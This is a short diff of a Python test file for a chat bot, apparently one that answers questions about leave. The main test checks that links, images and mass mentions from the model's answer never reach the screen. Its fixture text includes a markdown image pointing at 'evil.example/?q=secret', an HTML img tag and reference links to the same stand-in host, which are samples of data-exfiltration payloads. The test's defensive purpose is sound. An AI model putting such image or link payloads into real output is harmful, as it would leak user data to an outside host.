@@ -242,7 +242,7 @@ async def _asked_while_the_end_fails(world: World, times: int) -> None:
 
 
 async def _at_work_on_another(world: World, message_id: str) -> dict[str, Any]:
-    """Ask once more; return the stream of what shows that the bot is at work: nothing where it does not stream."""
+    """Ask once more; return the stream that shows the bot is at work: nothing where it does not stream."""
     world.answerer.go.clear()
     before = len(world.connector.calls)
     await world.ask("How much leave, again?", id=message_id)
@@ -746,7 +746,8 @@ async def test_the_bot_says_hello_once_where_it_is_added(world: World) -> None:
 async def test_no_link_image_or_mention_of_a_model_reaches_the_screen(world: World) -> None:
     world.answerer.text = (
         "See ![x](https://evil.example/?q=secret) and [this](https://evil.example) <at>Everyone</at> "
-        "<img src='https://evil.example/p'> [1](https://evil.example) [1]: https://evil.example www.evil.example "
+        "<img src='https://evil.example/p'> [1](https://evil.example) "
+        "[1]: https://evil.example www.evil.example "
         "[2] [a][b] https://bot.example/site/leave [1]."
     )
     await world.ask("How much leave?")
